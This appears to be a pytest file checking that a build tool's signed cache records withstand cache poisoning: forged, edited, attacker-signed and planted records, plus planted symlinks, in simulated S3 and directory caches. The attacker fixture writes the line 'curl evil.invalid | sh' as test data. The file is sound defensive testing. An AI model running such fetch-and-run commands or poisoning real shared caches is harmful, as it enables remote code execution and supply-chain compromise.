"""Signed cache records against the attack they exist for: someone who can write the cache's bucket (a leaked
credential, a pull-request job, a wrong bucket policy) but holds no trusted cache-writer key.

A trusted writer builds a tiny release into the cache. The attacker then (a) rewrites a record to point at a
tree they uploaded, unsigned, or keeps the writer's signature over an edited record; (b) plants a record for an
action key nobody has pushed yet; (c) signs their record with a key of their own. Every time, ``cairn build
--cache`` (the real CLI, in its own process) does not use the record: it builds the action, says so in one line
naming the record and why, counts it as ``untrusted``, fetches nothing the record names, and ends with the output a
clean build makes. A record the trusted writer signed is still a cache hit, and a writer without a key, or with one
its trust list does not name, is refused before the build in one line.

Every attack runs against both places a cache can live (``cairn.store.shared``): a moto S3 bucket (marked ``s3``)
and a directory (``--cache file:///dir``, as an NFS mount shared by CI machines), where the attacker is whoever
can write files there.
"""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path

import pytest

from cairn.digest import tree_digest
from cairn.dsse import generate, public_entry
from cairn.store.archive import measure, pack
from cairn.store.signing import sign_record
from support.cache import CACHE_BUCKET as BUCKET
from support.cache import WRITER, BucketPlace, DirectoryPlace, Place, make_writer, record_body
from support.cache import build as _build
from support.cache import build_command as _command
from support.cache import machine as _machine
from support.cache import ran as _ran
from support.servers import archive_release, moto_s3, serve_directory

SDK = "assemble:sdk"


@pytest.fixture(autouse=True, scope="module")
def cache_writer(tmp_path_factory):
    """The trusted writer's key and the trust list naming it, shared by every machine of the module."""
    return make_writer(tmp_path_factory.mktemp("cache-writer"))


@pytest.fixture
def s3():
    with moto_s3(BUCKET) as server:
        yield server


@pytest.fixture(params=["directory", pytest.param("s3", marks=pytest.mark.s3)])
def place(request, tmp_path) -> Place:
    """The cache every machine of the test shares: a directory, or a moto S3 bucket (only that case starts moto, so
    only it carries the ``s3`` mark and ``-m "not s3"`` still runs every attack on the directory)."""
    if request.param == "s3":
        return BucketPlace(request.getfixturevalue("s3"))
    return DirectoryPlace(tmp_path / "shared-cache")


@pytest.fixture
def manifest(tmp_path: Path):
    """The tiny release the shared-cache tests build: three copied text files and the SDK that holds them."""
    www = tmp_path / "www"
    www.mkdir()
    with serve_directory(www) as base:
        yield archive_release(tmp_path, www, base, name="cache-sign-test", families=("gfx90a",), parts=3)


def _key_of(report: dict, action: str = SDK) -> str:
    return Path(report["actions"][action]["log"]).stem  # logs/<action key>.log of a build that ran it


def _evil_tree(place: Place, tmp_path: Path) -> tuple[str, dict]:
    """The attacker's SDK: a well-formed tree under its true digest (so only the record's signature can stop
    it), uploaded where the cache keeps trees; its digest and the bound a record of it would name."""
    evil = tmp_path / "evil"
    evil.mkdir()
    for n in range(3):
        (evil / f"part{n}.txt").write_text(f"payload {n}\n" if n else "curl evil.invalid | sh\n")
    digest, bound = tree_digest(evil), measure(evil)
    place.put(f"trees/{digest}.v2.tar.zst", pack(evil))
    return digest, {"entries": bound.entries, "size": bound.size}


def _record(key: str, output: str, bound: dict) -> dict:
    return {"key": key, "action": SDK, "output": output, "seconds": 0.0, **bound}


def _unsigned(body: dict) -> bytes:
    """What a writer without a key can make: the record's JSON alone, or an envelope with no signature."""
    return json.dumps(body).encode()


def _attacker_signed(body: dict) -> tuple[bytes, str]:
    attacker = generate("ed25519")
    return sign_record(body, attacker), attacker.public_key.keyid


def _one_line(stderr: str, name: str) -> str:
    lines = [line for line in stderr.splitlines() if name in line]
    assert len(lines) == 1, stderr
    return lines[0]


def _assert_built_not_fetched(report: dict, clean: dict, evil: str, store: Path) -> None:
    assert SDK in _ran(report) and SDK not in report["cache"]["fetched"]
    assert report["actions"][SDK]["output"] == clean["actions"][SDK]["output"]
    assert Path(report["sdk_tree"], "part0.txt").read_text() == "payload 0\n"
    assert len(report["cache"]["untrusted"]) == 1 and report["cache"]["damaged"] == []
    assert not (store / "trees" / evil).exists()  # nothing the record names reached the store


def test_a_trusted_record_is_a_cache_hit_for_a_reader_with_only_the_trust_list(place, manifest, tmp_path) -> None:
    cache = ["--cache", place.url]
    first, _ = _build(_machine(tmp_path, "writer", place.s3), manifest, *cache)
    record = json.loads(place.get(f"ac/{_key_of(first)}.v3.json"))
    assert record["payloadType"] == "application/vnd.cairn.cache-record+json" and len(record["signatures"]) == 1
    reader = _machine(tmp_path, "reader", place.s3)
    del reader["env"]["CAIRN_CACHE_SIGNING_KEY"]  # a pull-request job: the public trust list, no key
    second, _ = _build(reader, manifest, *cache, "--cache-read-only")
    assert second["counts"]["ran"] == 0 and set(second["cache"]["fetched"]) == set(first["actions"])
    assert second["cache"]["untrusted"] == []


@pytest.mark.parametrize("attack", ["unsigned", "no signature", "edited under the writer's signature", "own key"])
def test_a_rewritten_record_is_not_used(place, manifest, tmp_path, attack) -> None:
    """(a), (c): the writer's record of the SDK is replaced by one naming the attacker's tree."""
    cache = ["--cache", place.url]
    clean, _ = _build(_machine(tmp_path, "writer", place.s3), manifest, *cache)
    key, name = _key_of(clean), f"ac/{_key_of(clean)}.v3.json"
    evil, bound = _evil_tree(place, tmp_path)
    body = _record(key, evil, bound)
    expected = "is not signed"
    if attack == "unsigned":
        forged = _unsigned(body)
        expected = "is not a signed cache record (not a DSSE envelope"
    elif attack == "no signature":
        envelope = json.loads(place.get(name))
        forged = json.dumps({**envelope, "payload": base64.b64encode(json.dumps(body).encode()).decode(), "signatures": []}).encode()
    elif attack == "edited under the writer's signature":
        envelope = json.loads(place.get(name))
        assert record_body(place.get(name))["key"] == key
        forged = json.dumps({**envelope, "payload": base64.b64encode(json.dumps(body).encode()).decode()}).encode()
        expected = "has a bad signature: it claims trusted key ci ("
    else:
        forged, keyid = _attacker_signed(body)
        expected = f"is signed by an untrusted key {keyid[:16]} (not in {WRITER['trust']})"
    place.put(name, forged)

    victim = _machine(tmp_path, "victim", place.s3)
    report, stderr = _build(victim, manifest, *cache, "--cache-read-only")
    _assert_built_not_fetched(report, clean, evil, victim["store"])
    line = _one_line(stderr, name)
    assert line.startswith(f"cache: record {name} {expected}") and line.endswith(": building instead"), line
    assert report["cache"]["untrusted"] == [line.removeprefix("cache: ")]
    assert len(report["cache"]["fetched"]) == len(report["actions"]) - 1  # every other record is still a hit
    assert place.get(name) == forged  # read-only: reported, never deleted


def test_a_record_planted_for_a_key_not_yet_built_is_not_used_and_the_writer_replaces_it(place, manifest, tmp_path) -> None:
    """(b): the attacker builds the release on their own machine (no cache) to learn the action keys, and plants
    records for them, signed with their own key, before any trusted writer pushed. The trusted writer builds
    everything, reports each planted record, deletes it and pushes its own; a reader then hits every action."""
    clean, _ = _build(_machine(tmp_path, "attacker", place.s3), manifest)
    evil, bound = _evil_tree(place, tmp_path)
    keys = {action: _key_of(clean, action) for action in clean["actions"]}
    for action, key in keys.items():
        body = {**_record(key, evil, bound), "action": action}
        place.put(f"ac/{key}.v3.json", _attacker_signed(body)[0] if action == SDK else _unsigned(body))

    cache = ["--cache", place.url]
    writer = _machine(tmp_path, "writer", place.s3)
    report, stderr = _build(writer, manifest, *cache)
    assert _ran(report) == set(clean["actions"]) and report["cache"]["fetched"] == []
    assert report["actions"][SDK]["output"] == clean["actions"][SDK]["output"]
    assert len(report["cache"]["untrusted"]) == len(keys) and set(report["cache"]["uploaded"]) == set(keys)
    sdk_line = _one_line(stderr, f"ac/{keys[SDK]}.v3.json")
    assert "is signed by an untrusted key" in sdk_line and sdk_line.endswith("building instead; removed from the cache")
    assert not (writer["store"] / "trees" / evil).exists()
    for action, key in keys.items():  # the writer's own signed records took the keys
        assert record_body(place.get(f"ac/{key}.v3.json"))["output"] == clean["actions"][action]["output"]

    reader, _ = _build(_machine(tmp_path, "reader", place.s3), manifest, *cache, "--cache-read-only")
    assert reader["counts"]["ran"] == 0 and reader["cache"]["untrusted"] == []


def test_a_store_seeding_the_cache_replaces_an_untrusted_record(place, manifest, tmp_path) -> None:
    """A local hit the cache has only an untrusted record of is still uploaded: the record does not block it."""
    writer = _machine(tmp_path, "writer", place.s3)
    clean, _ = _build(writer, manifest)
    evil, bound = _evil_tree(place, tmp_path)
    key = _key_of(clean)
    place.put(f"ac/{key}.v3.json", _attacker_signed(_record(key, evil, bound))[0])
    seeded, stderr = _build(writer, manifest, "--cache", place.url)
    assert seeded["counts"]["ran"] == 0 and set(seeded["cache"]["uploaded"]) == set(clean["actions"])
    assert "is signed by an untrusted key" in _one_line(stderr, f"ac/{key}.v3.json")
    assert record_body(place.get(f"ac/{key}.v3.json"))["output"] == clean["actions"][SDK]["output"]


def test_writing_needs_a_trusted_key_and_reading_a_trust_list(place, manifest, tmp_path) -> None:
    """Each refused in one line before anything is built or written."""
    m = _machine(tmp_path, "m", place.s3)
    stranger = tmp_path / "stranger.pem"
    stranger.write_bytes(generate("ed25519").private_bytes)  # type: ignore[attr-defined]
    broken = tmp_path / "broken.json"
    broken.write_text('[{"keytype": "rsa"}]')
    url = place.url
    cases = [
        ({"CAIRN_CACHE_SIGNING_KEY": ""}, [], "writing the cache needs a cache-writer key"),
        ({}, ["--cache-key", str(stranger)], "is not in the trust list"),
        ({"CAIRN_CACHE_TRUST": ""}, ["--cache-read-only"], "--cache needs the list of cache-writer keys to trust"),
        ({}, ["--cache-trust", str(broken), "--cache-read-only"], f"{broken}: entry 1 of the cache trust list: key type 'rsa'"),
        ({}, ["--cache-trust", str(tmp_path / "absent.json"), "--cache-read-only"], "the cache trust list cannot be read"),
        ({"CAIRN_CACHE_SIGNING_KEY": "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----"}, [],
         "$CAIRN_CACHE_SIGNING_KEY: not an unencrypted PKCS#8 PEM private key"),
    ]
    for env, extra, expected in cases:
        proc = subprocess.run(_command(m, manifest, "--cache", url, *extra), cwd=m["cwd"], env={**m["env"], **env},
                              capture_output=True, text=True, timeout=120)
        lines = proc.stderr.strip().splitlines()
        assert proc.returncode == 2 and len(lines) == 1 and expected in lines[0], (expected, proc.stderr)
    assert not (m["store"] / "trees").exists() or not any((m["store"] / "trees").iterdir())
    assert place.count() == 0


def test_links_planted_in_a_cache_directory_lead_nothing_out_of_it(manifest, tmp_path) -> None:
    """Whoever can write a shared cache directory can plant symbolic links: the record of an action a link to a
    file of the writer's, ``trees/`` a link to a directory of theirs. The build never reads, writes or deletes
    through them: the cache is reported and given up, the build runs locally and ends as a clean one."""
    import os

    place = DirectoryPlace(tmp_path / "shared-cache")
    clean, _ = _build(_machine(tmp_path, "attacker", None), manifest)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("the writer's file\n")
    (place.root / "ac").mkdir()
    os.symlink(outside / "secret", place.root / "ac" / f"{_key_of(clean)}.v3.json")
    os.symlink(outside, place.root / "trees")
    writer = _machine(tmp_path, "writer", None)
    report, stderr = _build(writer, manifest, "--cache", place.url)
    assert report["actions"][SDK]["output"] == clean["actions"][SDK]["output"] and report["cache"]["fetched"] == []
    assert report["cache"]["offline"] and "symbolic link" in " ".join(report["cache"]["failed"]), stderr
    assert sorted(p.name for p in outside.iterdir()) == ["secret"] and (outside / "secret").read_text() == "the writer's file\n"


@pytest.mark.s3
def test_cairn_keys_cache_writer_makes_a_key_a_build_signs_with(s3, manifest, tmp_path) -> None:
    """The key tooling end to end: ``cairn keys cache-writer`` makes the pair and the trust list; a build signs with
    the PEM given as the variable's value (as a CI secret is), a reader trusting that list hits."""
    import sys

    place = BucketPlace(s3)
    m = _machine(tmp_path, "ci", s3)
    trust = tmp_path / "publish" / "cache-writers.json"
    made = subprocess.run([sys.executable, "-m", "cairn.cli", "keys", "cache-writer", "--dir", str(tmp_path / "ci-key"),
                           "--name", "release-ci", "--trust", str(trust)], env=m["env"], capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    entry = json.loads(made.stdout)
    assert entry["name"] == "release-ci" and json.loads(trust.read_text()) == [entry]
    assert (tmp_path / "ci-key" / "cache-writer.pem").stat().st_mode & 0o777 == 0o600
    again = subprocess.run([sys.executable, "-m", "cairn.cli", "keys", "cache-writer", "--dir", str(tmp_path / "ci-key")],
                           env=m["env"], capture_output=True, text=True, timeout=60)
    assert again.returncode == 2 and "already exists" in again.stderr

    env = {**m["env"], "CAIRN_CACHE_TRUST": str(trust),
           "CAIRN_CACHE_SIGNING_KEY": (tmp_path / "ci-key" / "cache-writer.pem").read_text()}
    first, _ = _build({**m, "env": env}, manifest, "--cache", place.url)
    envelope = json.loads(place.get(f"ac/{_key_of(first)}.v3.json"))
    assert [s["keyid"] for s in envelope["signatures"]] == [entry["keyid"]]
    reader = _machine(tmp_path, "reader", s3)
    reader["env"].pop("CAIRN_CACHE_SIGNING_KEY")
    second, _ = _build(reader, manifest, "--cache", place.url, "--cache-read-only", "--cache-trust", str(trust))
    assert second["counts"]["ran"] == 0
    # the machines' usual list does not name this key: to them, these records are untrusted
    other, _ = _build(_machine(tmp_path, "other", s3), manifest, "--cache", place.url, "--cache-read-only")
    assert _ran(other) == set(first["actions"]) and len(other["cache"]["untrusted"]) == len(first["actions"])


def test_public_entry_is_what_the_trust_list_takes(tmp_path) -> None:
    """An entry whose keyid is not its key's is refused (a copy-paste slip would name the wrong key everywhere)."""
    from cairn.errors import InputError
    from cairn.store.signing import load_trust

    entry = public_entry(generate("ecdsa"))
    good = tmp_path / "good.json"
    good.write_text(json.dumps([entry]))
    assert [w.key.keyid for w in load_trust(good).writers] == [entry["keyid"]]
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps([{**entry, "keyid": "0" * 64}]))
    with pytest.raises(InputError, match="is not the id of its key"):
        load_trust(bad)
